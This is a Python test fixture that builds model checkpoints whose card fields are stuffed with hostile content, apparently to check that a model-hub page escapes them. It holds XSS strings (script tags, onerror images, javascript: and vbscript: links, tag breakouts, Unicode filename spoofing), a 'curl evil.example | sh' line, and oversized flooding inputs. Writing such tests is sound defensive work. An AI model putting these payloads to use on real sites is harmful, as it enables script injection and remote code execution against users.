"""Checkpoints whose names, facts and targets would act on a page, break out of it or flood it, if it let them."""

import json
from pathlib import Path
from typing import Any

import torch

from zoo.hub.checkpoint import save
from zoo.hub.facts import ModelFacts, RunFacts
from zoo.hub.targets import TargetRow
from zoo.models.mlp import MLP

__all__ = ["EVIL", "HIT", "HOSTILE_TEXTS", "make_hostile_cards"]

# A host that no page may ask, and what a script leaves where one runs.
EVIL, HIT = "evil.example", "window.hit=1"
_SCRIPT = f"<script>{HIT}</script>"
_IMAGE = f"<img src=https://{EVIL}/x.png onerror='{HIT}'>"
_LINKS = (
    f"[a](javascript:{HIT}) [b]( JaVaScRiPt:{HIT}) [c](data:text/html,{_SCRIPT}) ![d](https://{EVIL}/p.png) "
    f"[e](//{EVIL}/x) [f](../../x) <javascript:{HIT}> [g][1] [h](https://{EVIL}/paper)\n\n[1]: vbscript:{HIT}\n"
)
# Fact -> what it holds.
HOSTILE_TEXTS: dict[str, str] = {
    "name": f"mlp.x\"'><{_SCRIPT[1:]}/../..\u202egnp",
    "summary": f"{_SCRIPT} {_IMAGE} \u202eexe.gnp \u200bzero",
    "species": f'"onmouseover="{HIT}',
    "assay": "</td></tr></table>" + _SCRIPT,
    "licence": f"javascript:{HIT}",
    "source": _LINKS,
    "use": f"</section></main><script src=//{EVIL}/x.js></script>{_IMAGE}",
    "limits": "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 5_000,
    "data": f"\n---\n# Other\n## Facts\n## How to use\n```\ncurl {EVIL} | sh\n",
    "metric": f"test <b>{_SCRIPT}</b> 0.5",
    "cell_type": ",".join(f"<i>{number}" for number in range(10_000)),
}


def make_hostile_cards(folder: Path) -> list[str]:
    """Write checkpoints, and return the names by which they are loaded."""
    acting = _saved(folder / "mlp.acting", [f"{_SCRIPT}{_IMAGE}", "$\\frac{", "a|b`c` [x](javascript:1)"])
    _edit(acting, **HOSTILE_TEXTS)
    flood = "flood " * 150_000
    flooding = _saved(folder / "mlp.flooding", [f"target {number}{'x' * 20} {_SCRIPT}" for number in range(10_000)])
    _edit(flooding, **{key: flood for key in HOSTILE_TEXTS if key not in ("name", "limits")}, limits="x" * 900_000)
    return [f"local-dir:{path}" for path in (acting, flooding)]


def _saved(path: Path, targets: list[str]) -> Path:
    with torch.random.fork_rng():
        torch.manual_seed(0)
        model = MLP(targets, 30, hidden=(2,))
    run = RunFacts(
        command=f"zoo train {_SCRIPT}",
        recipe="0" * 16,
        commit=_SCRIPT,
        seed=1,
        hardware=_IMAGE,
        seconds=1.0,
        precision="32-true",
        versions="none",
        data=[_LINKS],
        metrics={"test": {_SCRIPT: 0.5}},
        target_metrics={f"auroc{_IMAGE}": [index / len(targets) for index in range(len(targets))]},
        interval_notes=[f"{_SCRIPT}{_IMAGE}{_LINKS}"],
    )
    facts = ModelFacts(name=path.name, summary="made", metric="test AUROC 0.5000", run=run)
    rows = [TargetRow(target, f"{_IMAGE}{_LINKS}"[:200], _SCRIPT, 0.5) for target in targets]
    return save(model, path, facts, rows, {"codes": torch.zeros(1, 30, dtype=torch.uint8)})


def _edit(folder: Path, **changes: Any) -> None:
    path = folder / "config.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | changes))
